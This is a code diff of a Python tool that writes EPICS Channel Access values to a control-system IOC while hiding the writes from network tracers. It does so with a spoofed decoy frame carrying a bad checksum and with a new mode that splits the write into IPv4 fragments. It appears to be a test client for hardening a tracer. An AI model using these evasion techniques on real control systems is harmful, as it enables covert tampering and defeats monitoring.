@@ -1,13 +1,20 @@
 #!/usr/bin/env python3
-"""A CA client that hides a write behind a decoy (issue 14): over a real
-circuit to the IOC it sends, at the sequence number its socket uses next,
-a hand-built WRITE of DECOY whose TCP checksum is wrong, then the real
-WRITE of VALUE through the socket.  The IOC's stack drops the decoy and
-applies the real one; a tracer that believes the decoy logs a value never
-written and takes the real one for a retransmission.
+"""A CA client that hides a write from tracers (issue 14), over a real
+circuit to the IOC, at the sequence number its socket uses next:
 
-Usage: ca_decoy.py IFACE HOST PV VALUE DECOY
-Prints "read back V", the value the IOC holds afterwards (READ_NOTIFY).
+  decoy      a hand-built WRITE of DECOY whose TCP checksum is wrong, then
+             the real WRITE of VALUE through the socket.  The IOC's stack
+             drops the decoy and applies the real one; a tracer that
+             believes the decoy logs a value never written and takes the
+             real one for a retransmission.  Prints "read back V", the
+             value the IOC holds afterwards (READ_NOTIFY on the circuit).
+  fragments  the WRITE of VALUE hand-built, its checksum right, sent in two
+             IPv4 fragments (the CA header cut after 4 bytes).  The IOC
+             puts it back together and applies it.  The socket never knew
+             of those bytes, so the circuit is left as it is: read the
+             value on another one.  Prints "sent".
+
+Usage: ca_decoy.py decoy|fragments IFACE HOST PV VALUE [DECOY]
 Exit 0 when every answer came, 1 otherwise.  Needs root (AF_PACKET)."""
 import socket
 import struct
@@ -77,7 +84,9 @@ def last_sent(sniff, sport):
         newest = (frame[:14], frame[14:14 + ihl], tcp[:doff], tot - ihl - doff)
 
 
-def decoy_frame(seen, payload):
+def segment(seen, payload, wrong_sum):
+    """The next segment of the circuit: (ethernet header, IPv4 addresses,
+    TCP header and payload)."""
     eth, ip, tcp, plen = seen
     seq, ack = struct.unpack("!II", tcp[4:12])
     window = struct.unpack("!H", tcp[14:16])[0]
@@ -86,16 +95,20 @@ def decoy_frame(seen, payload):
                      struct.unpack("!H", tcp[2:4])[0], (seq + plen) & 0xFFFFFFFF, ack,
                      5 << 4, 0x18, window, 0, 0)
     right = csum(src + dst + struct.pack("!BBH", 0, 6, len(th) + len(payload)) + th + payload)
-    th = th[:16] + struct.pack("!H", (right + 1) & 0xFFFF) + th[18:]   # wrong on purpose
-    iph = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(th) + len(payload), 0x4242, 0x4000,
-                      64, 6, 0, src, dst)
-    iph = iph[:10] + struct.pack("!H", csum(iph)) + iph[12:]
-    return eth + iph + th + payload
+    if wrong_sum:
+        right = (right + 1) & 0xFFFF
+    th = th[:16] + struct.pack("!H", right) + th[18:]
+    return eth, src, dst, th + payload
+
+
+def ipv4(src, dst, body, ident, frag):
+    iph = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), ident, frag, 64, 6, 0, src, dst)
+    return iph[:10] + struct.pack("!H", csum(iph)) + iph[12:] + body
 
 
 def main():
-    iface, host, pv, value, decoy = sys.argv[1], sys.argv[2], sys.argv[3], \
-        float(sys.argv[4]), float(sys.argv[5])
+    mode, iface, host, pv, value = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4], \
+        float(sys.argv[5])
     sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
     sniff.bind((iface, 0))
     s = socket.create_connection((host, 5064), timeout=5)
@@ -109,9 +122,18 @@ def main():
     if seen is None:
         print("no frame of the circuit seen on %s" % iface)
         return 1
-    fake = msg(WRITE, struct.pack("!d", decoy), DBR_DOUBLE, 1, sid, 1)
-    sniff.send(decoy_frame(seen, fake))
-    s.sendall(msg(WRITE, struct.pack("!d", value), DBR_DOUBLE, 1, sid, 2))
+    write = msg(WRITE, struct.pack("!d", value), DBR_DOUBLE, 1, sid, 2)
+    if mode == "fragments":
+        eth, src, dst, seg = segment(seen, write, False)
+        # 24 bytes (the TCP header and 4 of CA's) with MF, the rest at 24.
+        sniff.send(eth + ipv4(src, dst, seg[:24], 0x4343, 0x2000))
+        sniff.send(eth + ipv4(src, dst, seg[24:], 0x4343, 24 // 8))
+        print("sent")
+        return 0
+    eth, src, dst, seg = segment(
+        seen, msg(WRITE, struct.pack("!d", float(sys.argv[6])), DBR_DOUBLE, 1, sid, 1), True)
+    sniff.send(eth + ipv4(src, dst, seg, 0x4242, 0x4000))
+    s.sendall(write)
     time.sleep(0.2)
     s.sendall(msg(READ_NOTIFY, b"", DBR_DOUBLE, 1, sid, 3))
     _, _, status, _, body = wait_for(s, READ_NOTIFY)
